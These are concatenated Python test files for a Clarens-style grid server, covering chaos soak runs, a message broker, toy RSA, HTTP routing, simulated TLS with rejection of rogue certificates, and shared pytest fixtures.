        rule.cancel()
        FAULTS.fire("p")                       # cancelled: silent
        FAULTS.inject("q", exc=RuntimeError)
        FAULTS.clear()
        FAULTS.fire("q")
        assert FAULTS.counts() == {}


# -- the controllable clock ----------------------------------------------------

class TestFakeClock:
    def test_sleep_records_and_advances_without_blocking(self):
        clock = FakeClock(start=10.0)
        clock.sleep(2.5)
        clock.advance(1.0)
        assert clock.monotonic() == 13.5
        assert clock() == clock.time()
        assert clock.sleeps == [2.5]

    def test_monotonic_cannot_go_backwards(self):
        with pytest.raises(ValueError):
            FakeClock().advance(-1.0)


# -- the fault schedule --------------------------------------------------------

class TestFaultSchedule:
    def test_same_seed_builds_identical_schedule(self):
        config = SoakConfig()
        one = build_schedule(config, 1234, 3)
        two = build_schedule(config, 1234, 3)
        assert [(e.at, e.kind, e.server, e.params) for e in one] == \
            [(e.at, e.kind, e.server, e.params) for e in two]

    def test_every_enabled_kind_lands_at_least_once(self):
        events = build_schedule(SoakConfig(), 99, 3)
        kinds = {e.kind for e in events}
        assert {"kill", "restart", "link_drop", "corrupt",
                "journal_truncate", "clock_skew_on",
                "clock_skew_off"} <= kinds
        assert [e.at for e in events] == sorted(e.at for e in events)
        assert all(0 <= e.server < 3 for e in events)

    def test_disabled_kinds_are_never_scheduled(self):
        config = SoakConfig(chaos_fault_kinds="link_drop")
        assert {e.kind for e in build_schedule(config, 7, 3)} == {"link_drop"}


# -- configuration -------------------------------------------------------------

class TestSoakConfig:
    def test_mix_parses_weights_and_drops_zeroes(self):
        config = SoakConfig(chaos_workload_mix="read=3, write=1, session=0")
        assert config.mix() == {"read": 3, "write": 1}

    def test_bad_knobs_fail_eagerly(self):
        with pytest.raises(ConfigError):
            SoakConfig(chaos_workload_mix="fry=1")
        with pytest.raises(ConfigError):
            SoakConfig(chaos_workload_mix="read=0")
        with pytest.raises(ConfigError):
            SoakConfig(chaos_servers=1)
        with pytest.raises(ConfigError):
            SoakConfig(chaos_duration=0)
        with pytest.raises(ConfigError):
            SoakConfig(chaos_fault_kinds="meteor")
        with pytest.raises(ConfigError):
            SoakConfig(chaos_protocol="carrier-pigeon")

    def test_protocol_knob_accepts_binary(self):
        assert SoakConfig(chaos_protocol="binary").chaos_protocol == "binary"

    def test_seed_resolution_order(self, monkeypatch):
        monkeypatch.setenv("REPRO_TEST_SEED", "4242")
        assert SoakConfig().resolve_seed() == 4242
        assert SoakConfig(chaos_seed=7).resolve_seed() == 7   # knob wins
        monkeypatch.delenv("REPRO_TEST_SEED")
        assert SoakConfig().resolve_seed() >= 1               # drawn


# -- the report ----------------------------------------------------------------

class TestSoakReport:
    def _entry(self):
        return build_report(
            seed=1, servers=3, duration=6.0,
            ops={"total": 120, "errors": 2,
                 "by_kind": {"read": 80, "write": 40}},
            faults={"kill": 1, "restart": 1},
            invariants={"no_lost_transfers": {"ok": True, "detail": ""}},
            convergence_latency_s=0.5)

    def test_append_report_rides_the_trend_file(self, tmp_path):
        target = tmp_path / "trend.json"
        assert append_report(self._entry(), path=target) == target
        assert append_report(self._entry(), path=target) == target
        entries = json.loads(target.read_text())["runs"]
        assert len(entries) == 2
        assert entries[-1]["kind"] == "soak"
        assert entries[-1]["soak"]["ops"]["ops_per_second"] == 20.0

    def test_render_report_flags_violations(self):
        entry = self._entry()
        entry["soak"]["invariants"]["catalogue_convergence"] = {
            "ok": False, "detail": "soak-2 disagrees"}
        text = render_report(entry)
        assert "invariant no_lost_transfers: ok" in text
        assert ("invariant catalogue_convergence: VIOLATED — "
                "soak-2 disagrees") in text


# -- the acceptance soak -------------------------------------------------------

class TestSmokeSoak:
    @pytest.mark.parametrize("transport", ["threaded", "async"])
    def test_smoke_soak_holds_every_invariant(self, tmp_path, test_seed,
                                              transport):
        """Tier-1 acceptance: a 3-server federation soaked under every
        fault kind converges with all watchdog invariants green — on both
        socket frontends."""

        config = SoakConfig(chaos_seed=test_seed,
                            chaos_report_path=str(tmp_path / "trend.json"),
                            chaos_transport=transport,
                            **SMOKE_OVERRIDES)
        harness = SoakHarness(config)
        entry, ok = harness.run()
        soak = entry["soak"]
        detail = render_report(entry) + "".join(
            f"\n  diag: {line}" for line in soak.get("diagnostics", []))
        assert ok, detail
        assert all(v["ok"] for v in soak["invariants"].values()), detail
        # The run actually exercised the fleet: traffic flowed and every
        # fault kind landed — including the kill/restart pair (the killed
        # peer rejoined and converged, or catalogue_convergence would have
        # failed) and the corruption (quarantined + healed, or
        # corruption_handled would have failed).
        assert soak["ops"]["total"] > 0
        for kind in ("kill", "restart", "link_drop", "corrupt",
                     "journal_truncate", "clock_skew"):
            assert soak["faults"].get(kind, 0) >= 1, soak["faults"]
        assert soak["convergence_latency_s"] is not None
        # The structured report landed on the trend file.
        entries = json.loads((tmp_path / "trend.json").read_text())["runs"]
        assert entries[-1]["soak"]["seed"] == harness.seed

    @pytest.mark.soak
    def test_sustained_soak(self, tmp_path, test_seed):
        """The long-haul variant; opt in with ``--run-soak``."""

        config = SoakConfig(chaos_seed=test_seed, chaos_duration=30.0,
                            chaos_report_path=str(tmp_path / "trend.json"))
        entry, ok = SoakHarness(config).run()
        assert ok, render_report(entry)
