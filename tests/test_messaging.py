"""The messaging extension: broker semantics and the msg.* RPC methods."""

from __future__ import annotations

import threading
import time

import pytest

from repro.client.client import ClarensClient
from repro.messaging.broker import MessageBroker, MessagingError
from repro.protocols.errors import Fault, FaultCode

ALICE = "/O=msg.test/CN=Alice"
BOB = "/O=msg.test/CN=Bob"


class TestMessageBroker:
    def test_send_then_poll(self):
        broker = MessageBroker()
        broker.register(ALICE)
        broker.send(BOB, ALICE, "status", {"job": "42", "state": "done"})
        messages = broker.poll(ALICE)
        assert len(messages) == 1
        assert messages[0].sender == BOB
        assert messages[0].body == {"job": "42", "state": "done"}
        # A second poll finds the mailbox drained.
        assert broker.poll(ALICE) == []

    def test_send_creates_recipient_mailbox(self):
        broker = MessageBroker()
        broker.send(BOB, ALICE, "hi", "there")
        assert broker.peek(ALICE) == 1

    def test_offline_delivery_preserves_order(self):
        broker = MessageBroker()
        broker.register(ALICE)
        for i in range(5):
            broker.send(BOB, ALICE, f"m{i}", i)
        bodies = [m.body for m in broker.poll(ALICE)]
        assert bodies == [0, 1, 2, 3, 4]

    def test_poll_unknown_mailbox(self):
        with pytest.raises(MessagingError):
            MessageBroker().poll("/O=nobody/CN=ghost")

    def test_resource_addresses_are_independent(self):
        broker = MessageBroker()
        broker.register(f"{ALICE}#job-1")
        broker.register(f"{ALICE}#job-2")
        broker.send(BOB, f"{ALICE}#job-1", "ctl", "pause")
        assert broker.peek(f"{ALICE}#job-1") == 1
        assert broker.peek(f"{ALICE}#job-2") == 0
        assert broker.addresses_for(ALICE) == [f"{ALICE}#job-1", f"{ALICE}#job-2"]

    def test_topic_broadcast_fanout(self):
        broker = MessageBroker()
        for i in range(3):
            address = f"{ALICE}#monitor-{i}"
            broker.register(address)
            broker.subscribe(address, "job.status")
        broker.register(f"{BOB}#other")
        delivered = broker.publish(BOB, "job.status", "update", {"done": 10})
        assert delivered == 3
        assert broker.peek(f"{BOB}#other") == 0
        assert broker.poll(f"{ALICE}#monitor-0")[0].topic == "job.status"

    def test_unsubscribe_stops_delivery(self):
        broker = MessageBroker()
        broker.register(ALICE)
        broker.subscribe(ALICE, "news")
        broker.unsubscribe(ALICE, "news")
        assert broker.publish(BOB, "news", "s", "b") == 0

    def test_mailbox_capacity_enforced(self):
        broker = MessageBroker(max_pending_per_mailbox=2)
        broker.register(ALICE)
        broker.send(BOB, ALICE, "1", "")
        broker.send(BOB, ALICE, "2", "")
        with pytest.raises(MessagingError, match="full"):
            broker.send(BOB, ALICE, "3", "")

    def test_long_poll_wakes_on_send(self):
        broker = MessageBroker()
        broker.register(ALICE)
        received = []

        def poller():
            received.extend(broker.poll(ALICE, wait=5.0))

        thread = threading.Thread(target=poller)
        thread.start()
        time.sleep(0.05)
        broker.send(BOB, ALICE, "wake", "up")
        thread.join(timeout=5)
        assert received and received[0].subject == "wake"

    def test_presence_tracking(self):
        broker = MessageBroker(presence_window=0.05)
        broker.register(ALICE)
        assert broker.presence(ALICE)[0]["online"] is False
        broker.poll(ALICE)
        assert broker.presence(ALICE)[0]["online"] is True
        time.sleep(0.06)
        assert broker.presence(ALICE)[0]["online"] is False

    def test_unregister(self):
        broker = MessageBroker()
        broker.register(ALICE)
        assert broker.unregister(ALICE)
        assert not broker.unregister(ALICE)


class TestMessagingService:
    def test_user_to_job_round_trip(self, client, admin_client, alice_credential,
                                    admin_credential):
        alice_dn = str(alice_credential.certificate.subject)
        admin_dn = str(admin_credential.certificate.subject)
        # Alice's job (authenticating as Alice via a delegated proxy in real
        # life) registers a control mailbox and polls it.
        client.call("msg.register", "job-7")
        # The admin sends it a control message.
        admin_client.call("msg.send", f"{alice_dn}#job-7", "control", {"action": "checkpoint"})
        messages = client.call("msg.poll", "job-7", 10, 0.0)
        assert len(messages) == 1
        assert messages[0]["sender"] == admin_dn
        assert messages[0]["body"] == {"action": "checkpoint"}

    def test_cannot_poll_someone_elses_mailbox(self, client, admin_client,
                                               admin_credential):
        admin_client.call("msg.register", "private")
        # Alice registering "private" creates *her* mailbox, not the admin's —
        # addresses are rooted at the caller DN, so there is nothing to steal.
        client.call("msg.register", "private")
        admin_client.call("msg.send",
                          f"{str(admin_credential.certificate.subject)}#private", "s", "secret")
        assert client.call("msg.poll", "private", 10, 0.0) == []

    def test_pending_and_mailbox_listing(self, client, admin_client, alice_credential):
        alice_dn = str(alice_credential.certificate.subject)
        client.call("msg.register", "")
        admin_client.call("msg.send", alice_dn, "ping", "x")
        assert client.call("msg.pending", "") == 1
        assert alice_dn in client.call("msg.my_mailboxes")

    def test_topic_publish_over_rpc(self, client, admin_client):
        client.call("msg.subscribe", "run.status", "dashboard")
        fanout = admin_client.call("msg.publish", "run.status", "run 2005A", {"events": 10_000})
        assert fanout == 1
        messages = client.call("msg.poll", "dashboard", 10, 0.0)
        assert messages[0]["topic"] == "run.status"

    def test_poll_unregistered_mailbox_faults(self, client):
        with pytest.raises(Fault) as excinfo:
            client.call("msg.poll", "never-registered", 10, 0.0)
        assert excinfo.value.code == FaultCode.NOT_FOUND

    def test_presence_scoping(self, client, admin_client):
        client.call("msg.register", "")
        assert all(p["owner_dn"] == client.dn for p in client.call("msg.presence", ""))
        # Admins may inspect everyone.
        assert isinstance(admin_client.call("msg.presence", ""), list)

    def test_requires_authentication(self, anon_client):
        with pytest.raises(Fault) as excinfo:
            anon_client.call("msg.register", "")
        assert excinfo.value.code == FaultCode.AUTHENTICATION_REQUIRED
