"""RSA key generation, signatures and secret transport."""

from __future__ import annotations

import random

import pytest
from hypothesis import given, settings, strategies as st

from repro.pki.rsa import (
    RSAPrivateKey,
    RSAPublicKey,
    generate_keypair,
    generate_prime,
    is_probable_prime,
)


@pytest.fixture(scope="module")
def keypair():
    return generate_keypair(512, random.Random(7))


class TestPrimality:
    def test_small_primes_recognised(self):
        for p in (2, 3, 5, 7, 11, 101, 229):
            assert is_probable_prime(p)

    def test_small_composites_rejected(self):
        for c in (0, 1, 4, 9, 15, 21, 100, 221):
            assert not is_probable_prime(c)

    def test_carmichael_number_rejected(self):
        assert not is_probable_prime(561)
        assert not is_probable_prime(41041)

    def test_generate_prime_has_requested_bits(self):
        rng = random.Random(3)
        p = generate_prime(96, rng)
        assert p.bit_length() == 96
        assert is_probable_prime(p)

    def test_generate_prime_rejects_tiny_sizes(self):
        with pytest.raises(ValueError):
            generate_prime(4)


class TestKeyGeneration:
    def test_modulus_size(self, keypair):
        assert 500 <= keypair.public.bits <= 513

    def test_public_matches_private(self, keypair):
        assert keypair.private.public_key() == keypair.public
        assert keypair.private.n == keypair.private.p * keypair.private.q

    def test_reproducible_with_seeded_rng(self):
        a = generate_keypair(256, random.Random(42))
        b = generate_keypair(256, random.Random(42))
        assert a.public == b.public

    def test_distinct_keys_for_distinct_seeds(self):
        a = generate_keypair(256, random.Random(1))
        b = generate_keypair(256, random.Random(2))
        assert a.public != b.public

    def test_rejects_tiny_modulus(self):
        with pytest.raises(ValueError):
            generate_keypair(64)


class TestSignatures:
    def test_sign_verify_round_trip(self, keypair):
        signature = keypair.private.sign(b"hello grid")
        assert keypair.public.verify(b"hello grid", signature)

    def test_verify_rejects_tampered_message(self, keypair):
        signature = keypair.private.sign(b"hello grid")
        assert not keypair.public.verify(b"hello grid!", signature)

    def test_verify_rejects_tampered_signature(self, keypair):
        signature = keypair.private.sign(b"hello grid")
        assert not keypair.public.verify(b"hello grid", signature + 1)

    def test_verify_rejects_wrong_key(self, keypair):
        other = generate_keypair(256, random.Random(9))
        signature = keypair.private.sign(b"payload")
        assert not other.public.verify(b"payload", signature)

    def test_verify_rejects_out_of_range_values(self, keypair):
        assert not keypair.public.verify(b"x", 0)
        assert not keypair.public.verify(b"x", keypair.public.n)
        assert not keypair.public.verify(b"x", "nonsense")  # type: ignore[arg-type]

    def test_empty_message_signable(self, keypair):
        assert keypair.public.verify(b"", keypair.private.sign(b""))


class TestSecretTransport:
    def test_encrypt_decrypt_secret(self, keypair):
        secret = b"\x01" * 32
        ciphertext = keypair.public.encrypt_secret(secret)
        assert keypair.private.decrypt_secret(ciphertext) == secret

    def test_decrypt_with_wrong_key_fails(self, keypair):
        other = generate_keypair(512, random.Random(11))
        ciphertext = keypair.public.encrypt_secret(b"s" * 16)
        with pytest.raises(ValueError):
            other.private.decrypt_secret(ciphertext)

    def test_secret_too_long_rejected(self, keypair):
        with pytest.raises(ValueError):
            keypair.public.encrypt_secret(b"x" * 128)

    def test_encrypt_int_range_checks(self, keypair):
        with pytest.raises(ValueError):
            keypair.public.encrypt_int(keypair.public.n)
        with pytest.raises(ValueError):
            keypair.private.decrypt_int(-1)


class TestSerialization:
    def test_public_key_dict_round_trip(self, keypair):
        assert RSAPublicKey.from_dict(keypair.public.to_dict()) == keypair.public

    def test_private_key_dict_round_trip(self, keypair):
        restored = RSAPrivateKey.from_dict(keypair.private.to_dict())
        assert restored == keypair.private
        assert restored.public_key() == keypair.public

    def test_fingerprint_stable_and_distinct(self, keypair):
        other = generate_keypair(256, random.Random(5))
        assert keypair.public.fingerprint() == keypair.public.fingerprint()
        assert keypair.public.fingerprint() != other.public.fingerprint()


# -- property-based -------------------------------------------------------------

_KP = generate_keypair(384, random.Random(99))


@settings(deadline=None, max_examples=30)
@given(st.binary(min_size=0, max_size=256))
def test_sign_verify_property(message):
    signature = _KP.private.sign(message)
    assert _KP.public.verify(message, signature)


@settings(deadline=None, max_examples=30)
@given(st.binary(min_size=1, max_size=256), st.binary(min_size=1, max_size=256))
def test_signature_does_not_transfer_between_messages(m1, m2):
    if m1 == m2:
        return
    assert not _KP.public.verify(m2, _KP.private.sign(m1))
