"""The shipped examples must stay runnable.

The quickstart and portal examples run end-to-end (they are fast); the longer
multi-server examples are compile-checked and their main() entry points
verified to exist, keeping the suite quick while still catching import and
syntax regressions in every example.
"""

from __future__ import annotations

import ast
import pathlib
import subprocess
import sys

import pytest

EXAMPLES_DIR = pathlib.Path(__file__).resolve().parent.parent / "examples"
ALL_EXAMPLES = sorted(EXAMPLES_DIR.glob("*.py"))


def test_examples_directory_has_expected_scripts():
    names = {p.name for p in ALL_EXAMPLES}
    assert {"quickstart.py", "physics_analysis.py", "discovery_federation.py",
            "grid_portal.py", "secure_file_sharing.py",
            "replication_fabric.py", "federation_fabric.py",
            "observability_federation.py"} <= names


@pytest.mark.parametrize("script", ALL_EXAMPLES, ids=lambda p: p.name)
def test_example_parses_and_defines_main(script):
    tree = ast.parse(script.read_text(), filename=str(script))
    functions = {node.name for node in ast.walk(tree) if isinstance(node, ast.FunctionDef)}
    assert "main" in functions
    # Every example must carry a module docstring explaining the scenario.
    assert ast.get_docstring(tree)


@pytest.mark.parametrize("script_name", ["quickstart.py", "grid_portal.py",
                                         "replication_fabric.py",
                                         "federation_fabric.py",
                                         "observability_federation.py"])
def test_fast_examples_run_to_completion(script_name):
    result = subprocess.run(
        [sys.executable, str(EXAMPLES_DIR / script_name)],
        capture_output=True, text=True, timeout=180)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "complete" in result.stdout
