"""HTTP substrate: messages, routing, TLS simulation, sendfile, workers, logs."""

from __future__ import annotations

import pytest

from repro.httpd.accesslog import AccessLog
from repro.httpd.message import Headers, HTTPError, HTTPRequest, HTTPResponse
from repro.httpd.router import Router
from repro.httpd.sendfile import FilePayload
from repro.httpd.tls import TLSChannel, TLSContext, TLSError, perform_handshake
from repro.httpd.workers import WorkerPool
from repro.pki.authority import CertificateAuthority


class TestHeaders:
    def test_case_insensitive_get(self):
        headers = Headers({"Content-Type": "text/xml"})
        assert headers.get("content-type") == "text/xml"
        assert "CONTENT-TYPE" in headers

    def test_set_replaces_add_appends(self):
        headers = Headers()
        headers.add("X-Multi", "1")
        headers.add("X-Multi", "2")
        assert headers.get_all("x-multi") == ["1", "2"]
        headers.set("X-Multi", "3")
        assert headers.get_all("x-multi") == ["3"]

    def test_remove_and_copy(self):
        headers = Headers({"A": "1", "B": "2"})
        clone = headers.copy()
        headers.remove("a")
        assert "A" not in headers and clone.get("A") == "1"


class TestHTTPMessages:
    def test_request_wire_round_trip(self):
        request = HTTPRequest(method="post", path="/clarens/rpc",
                              headers=Headers({"Content-Type": "text/xml"}),
                              body=b"<methodCall/>")
        parsed = HTTPRequest.from_bytes(request.to_bytes())
        assert parsed.method == "POST"
        assert parsed.url_path == "/clarens/rpc"
        assert parsed.body == b"<methodCall/>"
        assert parsed.headers.get("Content-Length") == str(len(b"<methodCall/>"))

    def test_response_wire_round_trip(self):
        response = HTTPResponse.ok(b"payload", content_type="text/plain")
        parsed = HTTPResponse.from_bytes(response.to_bytes())
        assert parsed.status == 200
        assert parsed.body_bytes() == b"payload"

    def test_query_parsing_and_unquoting(self):
        request = HTTPRequest(path="/clarens/file/data%20set/run1.root?offset=10&length=20")
        assert request.url_path == "/clarens/file/data set/run1.root"
        assert request.query == {"offset": "10", "length": "20"}

    def test_keepalive_defaults_by_version(self):
        assert HTTPRequest(http_version="HTTP/1.1").wants_keepalive()
        assert not HTTPRequest(http_version="HTTP/1.0").wants_keepalive()
        closing = HTTPRequest(headers=Headers({"Connection": "close"}))
        assert not closing.wants_keepalive()

    def test_malformed_request_line_rejected(self):
        with pytest.raises(HTTPError):
            HTTPRequest.from_bytes(b"NONSENSE\r\n\r\n")

    def test_xml_error_body(self):
        response = HTTPResponse.xml_error(404, "no such file <x>")
        assert response.status == 404
        assert b"&lt;x&gt;" in response.body_bytes()

    def test_error_reason_phrases(self):
        assert HTTPResponse.error(403).reason == "Forbidden"
        assert HTTPError(405).message == "Method Not Allowed"


class TestRouter:
    def make_router(self):
        router = Router()
        router.add("/clarens/rpc", lambda req, rest: HTTPResponse.ok(b"rpc:" + rest.encode()),
                   methods=("POST",))
        router.add("/clarens/file", lambda req, rest: HTTPResponse.ok(b"file:" + rest.encode()),
                   methods=("GET",))
        router.add("/clarens", lambda req, rest: HTTPResponse.ok(b"root"), methods=("GET",))
        return router

    def test_longest_prefix_wins(self):
        router = self.make_router()
        response = router.dispatch(HTTPRequest(method="GET", path="/clarens/file/data/x.root"))
        assert response.body_bytes() == b"file:data/x.root"

    def test_short_prefix_still_matches(self):
        router = self.make_router()
        assert router.dispatch(HTTPRequest(method="GET", path="/clarens")).body_bytes() == b"root"

    def test_prefix_does_not_match_inside_segment(self):
        router = self.make_router()
        response = router.dispatch(HTTPRequest(method="GET", path="/clarensology"))
        assert response.status == 404

    def test_unrouted_path_is_404_xml_for_get(self):
        router = self.make_router()
        response = router.dispatch(HTTPRequest(method="GET", path="/other/url"))
        assert response.status == 404
        assert response.headers.get("Content-Type") == "text/xml"

    def test_method_not_allowed(self):
        router = self.make_router()
        response = router.dispatch(HTTPRequest(method="GET", path="/clarens/rpc"))
        assert response.status == 405

    def test_default_handler_receives_unmatched(self):
        router = Router(default_handler=lambda req, rest: HTTPResponse.ok(rest.encode()))
        assert router.dispatch(HTTPRequest(path="/static/page.html")).body_bytes() == b"static/page.html"

    def test_handler_http_error_translated(self):
        router = Router()

        def handler(req, rest):
            raise HTTPError(403, "not yours")

        router.add("/secret", handler)
        assert router.dispatch(HTTPRequest(method="POST", path="/secret")).status == 403


class TestFilePayload:
    def test_full_and_partial_reads(self, tmp_path):
        path = tmp_path / "data.bin"
        path.write_bytes(bytes(range(200)) * 10)
        full = FilePayload(str(path))
        assert full.length == 2000
        assert full.read_all() == path.read_bytes()
        partial = FilePayload(str(path), offset=100, length=50)
        assert partial.read_all() == path.read_bytes()[100:150]

    def test_length_clipped_to_eof(self, tmp_path):
        path = tmp_path / "small.bin"
        path.write_bytes(b"abcdef")
        payload = FilePayload(str(path), offset=4, length=100)
        assert payload.length == 2 and payload.read_all() == b"ef"

    def test_chunks_cover_whole_payload(self, tmp_path):
        path = tmp_path / "big.bin"
        path.write_bytes(b"x" * (3 * 1024 * 1024 + 17))
        payload = FilePayload(str(path), chunk_size=1024 * 1024)
        chunks = list(payload.chunks())
        assert len(chunks) == 4
        assert b"".join(chunks) == path.read_bytes()

    def test_invalid_offset_rejected(self, tmp_path):
        path = tmp_path / "f.bin"
        path.write_bytes(b"abc")
        with pytest.raises(ValueError):
            FilePayload(str(path), offset=10)

    def test_missing_file_rejected(self, tmp_path):
        with pytest.raises(FileNotFoundError):
            FilePayload(str(tmp_path / "absent.bin"))


class TestWorkerPool:
    def test_map_preserves_order(self):
        with WorkerPool(4) as pool:
            assert pool.map(lambda x: x * x, range(10)) == [i * i for i in range(10)]

    def test_exception_surfaces_to_caller(self):
        with WorkerPool(2) as pool:
            task = pool.submit(lambda: 1 / 0)
            with pytest.raises(ZeroDivisionError):
                task.result(timeout=5)

    def test_submit_after_shutdown_rejected(self):
        pool = WorkerPool(1)
        pool.shutdown()
        with pytest.raises(RuntimeError):
            pool.submit(lambda: None)

    def test_invalid_size_rejected(self):
        with pytest.raises(ValueError):
            WorkerPool(0)


class TestAccessLog:
    def test_entries_and_counts(self):
        log = AccessLog(capacity=10)
        for status in (200, 200, 404, 500):
            log.log(remote_addr="10.0.0.1", client_dn=None, method="GET", path="/x",
                    status=status, response_bytes=10, duration_s=0.001)
        assert log.total() == 4
        assert log.status_counts()[200] == 2
        assert log.error_rate() == pytest.approx(0.5)

    def test_capacity_bounds_entries(self):
        log = AccessLog(capacity=3)
        for i in range(10):
            log.log(remote_addr="a", client_dn=None, method="GET", path=f"/{i}",
                    status=200, response_bytes=0, duration_s=0)
        assert len(log.entries()) == 3
        assert log.total() == 10

    def test_common_log_format_contains_dn(self):
        log = AccessLog()
        entry = log.log(remote_addr="10.1.2.3", client_dn="/O=x/CN=alice", method="POST",
                        path="/clarens/rpc", status=200, response_bytes=321, duration_s=0.01)
        line = entry.common_log_line()
        assert "10.1.2.3" in line and "/O=x/CN=alice" in line and "321" in line

    def test_file_mirroring(self, tmp_path):
        log_path = tmp_path / "access.log"
        log = AccessLog(path=str(log_path))
        log.log(remote_addr="a", client_dn=None, method="GET", path="/x", status=200,
                response_bytes=1, duration_s=0)
        assert log_path.read_text().count("\n") == 1


class TestTLS:
    @pytest.fixture(scope="class")
    def pki(self):
        ca = CertificateAuthority("/O=tls.test/CN=TLS CA", key_bits=512)
        return {
            "ca": ca,
            "server": ca.issue_host("tls.server.test"),
            "client": ca.issue_user("Tess Transport"),
        }

    def _contexts(self, pki, *, with_client_cert=True, require=False):
        server_ctx = TLSContext(credential=pki["server"], trust_store=pki["ca"].trust_store(),
                                require_client_cert=require)
        client_ctx = TLSContext(credential=pki["client"] if with_client_cert else None,
                                trust_store=pki["ca"].trust_store())
        return client_ctx, server_ctx

    def test_handshake_reports_both_dns(self, pki):
        client_ctx, server_ctx = self._contexts(pki)
        client_chan, server_chan = perform_handshake(client_ctx, server_ctx)
        assert server_chan.client_dn == str(pki["client"].certificate.subject)
        assert client_chan.server_dn == str(pki["server"].certificate.subject)

    def test_record_layer_round_trip_both_directions(self, pki):
        client_ctx, server_ctx = self._contexts(pki)
        client_chan, server_chan = perform_handshake(client_ctx, server_ctx)
        for payload in (b"", b"hello", b"x" * 100_000):
            assert server_chan.unwrap(client_chan.wrap(payload)) == payload
            assert client_chan.unwrap(server_chan.wrap(payload)) == payload

    def test_record_is_actually_scrambled(self, pki):
        client_ctx, server_ctx = self._contexts(pki)
        client_chan, _ = perform_handshake(client_ctx, server_ctx)
        record = client_chan.wrap(b"super secret payload")
        assert b"super secret" not in record

    def test_tampered_record_rejected(self, pki):
        client_ctx, server_ctx = self._contexts(pki)
        client_chan, server_chan = perform_handshake(client_ctx, server_ctx)
        record = bytearray(client_chan.wrap(b"data"))
        record[10] ^= 0xFF
        with pytest.raises(TLSError):
            server_chan.unwrap(bytes(record))

    def test_anonymous_client_allowed_unless_required(self, pki):
        client_ctx, server_ctx = self._contexts(pki, with_client_cert=False)
        _, server_chan = perform_handshake(client_ctx, server_ctx)
        assert server_chan.client_dn is None

    def test_required_client_cert_enforced(self, pki):
        client_ctx, server_ctx = self._contexts(pki, with_client_cert=False, require=True)
        with pytest.raises(TLSError):
            perform_handshake(client_ctx, server_ctx)

    def test_untrusted_server_rejected_by_client(self, pki):
        rogue_ca = CertificateAuthority("/O=tls.test/CN=Rogue CA", key_bits=512)
        rogue_server = TLSContext(credential=rogue_ca.issue_host("evil.test"),
                                  trust_store=rogue_ca.trust_store())
        client_ctx = TLSContext(trust_store=pki["ca"].trust_store())
        with pytest.raises(TLSError, match="server certificate rejected"):
            perform_handshake(client_ctx, rogue_server)

    def test_untrusted_client_rejected_by_server(self, pki):
        rogue_ca = CertificateAuthority("/O=tls.test/CN=Rogue CA 2", key_bits=512)
        client_ctx = TLSContext(credential=rogue_ca.issue_user("Mallory"),
                                trust_store=pki["ca"].trust_store())
        server_ctx = TLSContext(credential=pki["server"], trust_store=pki["ca"].trust_store())
        with pytest.raises(TLSError, match="client certificate rejected"):
            perform_handshake(client_ctx, server_ctx)

    def test_revoked_client_rejected(self, pki):
        ca = pki["ca"]
        revoked_user = ca.issue_user("Revoked Tess")
        ca.revoke(revoked_user.certificate)
        client_ctx = TLSContext(credential=revoked_user, trust_store=ca.trust_store(),
                                revoked_serials=ca.crl())
        server_ctx = TLSContext(credential=pki["server"], trust_store=ca.trust_store())
        with pytest.raises(TLSError):
            perform_handshake(client_ctx, server_ctx)

    def test_server_without_credential_rejected(self, pki):
        with pytest.raises(TLSError):
            perform_handshake(TLSContext(trust_store=pki["ca"].trust_store()), TLSContext())
