"""Shared fixtures.

Key generation dominates test runtime, so one CA and a small cast of
credentials are created per session and shared; tests that need their own
trust roots build them explicitly.
"""

from __future__ import annotations

import os
import random

import pytest

from repro.core.clock import FakeClock
from repro.core.config import ServerConfig
from repro.core.faults import FAULTS
from repro.core.server import ClarensServer
from repro.client.client import ClarensClient
from repro.pki.authority import CertificateAuthority

ADMIN_DN = "/O=clarens.test/OU=People/CN=Ada Admin"


def pytest_addoption(parser):
    parser.addoption("--run-soak", action="store_true", default=False,
                     help="run tests marked soak/slow (long chaos runs)")


def pytest_collection_modifyitems(config, items):
    if config.getoption("--run-soak"):
        return
    skip = pytest.mark.skip(reason="soak/slow test; opt in with --run-soak")
    for item in items:
        if "soak" in item.keywords or "slow" in item.keywords:
            item.add_marker(skip)


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    """Print the replay line for any seeded test that fails."""

    outcome = yield
    report = outcome.get_result()
    seed = getattr(item, "_repro_seed", None)
    if seed is not None and report.when == "call" and report.failed:
        report.sections.append(
            ("seed replay",
             f"replay this exact run with: REPRO_TEST_SEED={seed}"))


@pytest.fixture(autouse=True)
def _clear_faults():
    """No fault rule armed in one test may leak into the next."""

    FAULTS.clear()
    yield
    FAULTS.clear()


@pytest.fixture()
def fake_clock():
    """A controllable monotonic clock (no real sleeping)."""

    return FakeClock()


@pytest.fixture()
def test_seed(request):
    """Per-test randomness seed, honouring ``REPRO_TEST_SEED`` for replay.

    A failing test that used this fixture reprints its seed in a
    ``seed replay`` report section; exporting that value reruns the same
    schedule.
    """

    env = os.environ.get("REPRO_TEST_SEED", "").strip()
    seed = int(env) if env else random.SystemRandom().randrange(1, 2**31)
    request.node._repro_seed = seed
    return seed


@pytest.fixture(scope="session")
def ca() -> CertificateAuthority:
    """A session-wide certificate authority."""

    return CertificateAuthority("/O=clarens.test/CN=Clarens Test CA", key_bits=512)


@pytest.fixture(scope="session")
def host_credential(ca):
    return ca.issue_host("server.clarens.test")


@pytest.fixture(scope="session")
def admin_credential(ca):
    return ca.issue_user("Ada Admin")


@pytest.fixture(scope="session")
def alice_credential(ca):
    return ca.issue_user("Alice Adams")


@pytest.fixture(scope="session")
def bob_credential(ca):
    return ca.issue_user("Bob Brown")


def build_server(ca, host_credential, *, admins=(ADMIN_DN,), data_dir=None,
                 message_bus=None, **overrides):
    """Construct a ClarensServer wired to the shared test CA."""

    config = ServerConfig(
        server_name=overrides.pop("server_name", "test-server"),
        admins=list(admins),
        data_dir=str(data_dir) if data_dir is not None else None,
        host_dn=str(host_credential.certificate.subject),
        **overrides,
    )
    return ClarensServer(config, credential=host_credential, trust_store=ca.trust_store(),
                         message_bus=message_bus)


@pytest.fixture()
def server(ca, host_credential):
    """A fresh in-memory server per test."""

    srv = build_server(ca, host_credential)
    yield srv
    srv.close()


@pytest.fixture()
def loopback(server):
    return server.loopback()


@pytest.fixture()
def client(server, loopback, alice_credential):
    """A client logged in as Alice over the unencrypted loopback."""

    cl = ClarensClient.for_loopback(loopback)
    cl.login_with_credential(alice_credential)
    yield cl
    cl.close()


@pytest.fixture()
def admin_client(server, loopback, admin_credential):
    """A client logged in as the server administrator."""

    cl = ClarensClient.for_loopback(loopback)
